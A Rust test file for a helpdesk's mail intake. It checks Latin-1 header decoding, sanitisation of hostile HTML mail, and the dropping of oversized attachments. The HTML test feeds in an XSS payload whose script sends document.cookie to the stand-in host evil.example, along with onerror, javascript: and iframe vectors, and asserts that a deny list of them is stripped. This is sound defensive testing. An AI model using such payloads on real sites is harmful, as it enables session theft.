//! What mail says: charsets and encoded words, HTML that must not run,
//! and attachments over the limits.

use itdesk::auth::Role;
use serde_json::{Value, json};

use crate::helpers::{TestApp, spawn_app, spawn_app_with};
use crate::mail::{inbound, json};

#[tokio::test]
async fn iso_8859_1_mail_with_encoded_words_reads_correctly() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let mut raw: Vec<u8> = b"From: =?ISO-8859-1?Q?Ren=E9e_Dupr=E9?= <renee@example.com>\r\n\
To: helpdesk@example.org\r\n\
Subject: =?ISO-8859-1?Q?Imprimante_en_panne_=E0_l'=E9tage?=\r\n\
Message-ID: <latin1-1@example.com>\r\nMIME-Version: 1.0\r\n\
Content-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        .to_vec();
    // "Le bac à papier est cassé, ça coince." in ISO-8859-1 bytes.
    raw.extend_from_slice(b"Le bac \xe0 papier est cass\xe9, \xe7a coince.\r\n");
    let out = inbound(&app, &gate, raw).await;
    assert_eq!(out["action"], "created", "{out}");
    let t = json(&app, &gate, "/api/v1/tickets/1").await;
    assert_eq!(t["subject"], "Imprimante en panne à l'étage");
    assert_eq!(t["requester"]["name"], "Renée Dupré");
    assert!(
        t["description"]
            .as_str()
            .unwrap()
            .contains("Le bac à papier est cassé, ça coince."),
        "{t}"
    );
}

/// A browser-like client logged in with a password.
async fn logged_in(app: &TestApp, email: &str, role: Role) -> reqwest::Client {
    app.user_with_password(email, role, "correct horse battery")
        .await;
    let client = reqwest::Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let page = client
        .get(app.url("/login"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let marker = "name=\"csrf\" value=\"";
    let start = page.find(marker).unwrap() + marker.len();
    let csrf = page[start..].split('"').next().unwrap().to_owned();
    let r = client
        .post(app.url("/login"))
        .form(&[
            ("csrf", csrf.as_str()),
            ("email", email),
            ("password", "correct horse battery"),
            ("next", "/"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    client
}

#[tokio::test]
async fn html_mail_with_script_and_onerror_shows_no_script() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let raw = "From: frank@example.com\r\nTo: helpdesk@example.org\r\nSubject: Screen\r\n\
Message-ID: <html-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><head><script>alert('head')</script></head><body><p>My screen is <b>black</b>.</p>\
<script>document.location='https://evil.example/'+document.cookie</script>\
<img src=\"x\" onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">details</a>\
<iframe src=\"https://evil.example/\"></iframe><p onclick=\"alert(3)\">Thanks</p></body></html>\r\n";
    let out = inbound(&app, &gate, raw).await;
    assert_eq!(out["action"], "created", "{out}");
    let t = json(&app, &gate, "/api/v1/tickets/1").await;
    let d = t["description"].as_str().unwrap();
    assert!(
        d.contains("My screen is black."),
        "text derived from HTML: {d}"
    );
    assert!(d.contains("Thanks"));
    assert!(!d.contains("alert") && !d.contains("document."), "{d}");

    let mail = json(&app, &gate, "/api/v1/tickets/1/mail").await;
    let html = mail[0]["html"].as_str().unwrap();
    assert!(html.contains("<b>black</b>"), "{html}");
    for bad in [
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "alert(",
    ] {
        assert!(!html.contains(bad), "{bad} in sanitized HTML: {html}");
    }

    // The ticket page links the original; its page shows the safe HTML.
    let browser = logged_in(&app, "viewer@example.org", Role::Agent).await;
    let page = browser
        .get(app.url("/tickets/1"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let marker = "href=\"/tickets/1/mail/";
    let at = page.find(marker).expect("a link to the original message") + marker.len();
    let id = page[at..].split('"').next().unwrap().to_owned();
    let resp = browser
        .get(app.url(&format!("/tickets/1/mail/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let csp = resp.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(csp.contains("script-src 'self'"), "{csp}");
    let view = resp.text().await.unwrap();
    assert!(view.contains("My screen is <b>black</b>"), "{view}");
    for bad in [
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "alert(",
        "evil.example",
    ] {
        assert!(!view.contains(bad), "{bad} on the page");
    }
    assert!(!view.contains("<script>document"), "no inline script");
    // The bytes as received, to download.
    let raw_resp = browser
        .get(app.url(&format!("/tickets/1/mail/{id}/raw")))
        .send()
        .await
        .unwrap();
    assert_eq!(raw_resp.status(), 200);
    assert_eq!(raw_resp.headers()["content-type"], "message/rfc822");
    assert!(
        raw_resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    assert_eq!(raw_resp.bytes().await.unwrap().as_ref(), raw.as_bytes());
    // The originals are for staff.
    let requester = logged_in(&app, "rita@example.org", Role::Requester).await;
    let resp = requester
        .get(app.url(&format!("/tickets/1/mail/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
}

#[tokio::test]
async fn attachments_over_the_limit_are_dropped_with_a_note_not_the_message() {
    let app = spawn_app_with(vec![("attachments.max_bytes".into(), json!(2048))]).await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let big = "QUJD".repeat(1500); // 4.5 KB of base64 → 3.4 KB decoded
    let raw = format!(
        "From: gina@example.com\r\nTo: helpdesk@example.org\r\nSubject: Logs\r\n\
Message-ID: <att-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"mx\"\r\n\r\n\
--mx\r\nContent-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>See the logs and <img src=\"cid:shot@x\"></p>\r\n\
--rel\r\nContent-Type: image/png\r\nContent-ID: <shot@x>\r\nContent-Disposition: inline; filename=\"shot.png\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\r\n\
--rel--\r\n\
--mx\r\nContent-Type: text/plain; name=\"small.log\"\r\nContent-Disposition: attachment; filename=\"small.log\"\r\n\r\n\
line one\r\nline two\r\n\
--mx\r\nContent-Type: application/octet-stream; name=\"huge.bin\"\r\nContent-Disposition: attachment; filename=\"huge.bin\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{big}\r\n--mx--\r\n"
    );
    let out = inbound(&app, &gate, raw).await;
    assert_eq!(out["action"], "created", "{out}");
    let files = json(&app, &gate, "/api/v1/tickets/1/attachments").await;
    let mut names: Vec<&str> = files
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["filename"].as_str().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, vec!["shot.png", "small.log"], "{files}");
    let history = json(&app, &gate, "/api/v1/tickets/1/history").await;
    let dropped: Vec<&Value> = history
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["action"] == "mail_attachment_dropped")
        .collect();
    assert_eq!(dropped.len(), 1, "{history}");
    assert_eq!(dropped[0]["changes"]["filename"], "huge.bin");
    assert_eq!(dropped[0]["changes"]["size_bytes"], 4500);
    assert!(
        json(&app, &gate, "/api/v1/tickets/1").await["description"]
            .as_str()
            .unwrap()
            .contains("See the logs")
    );
}
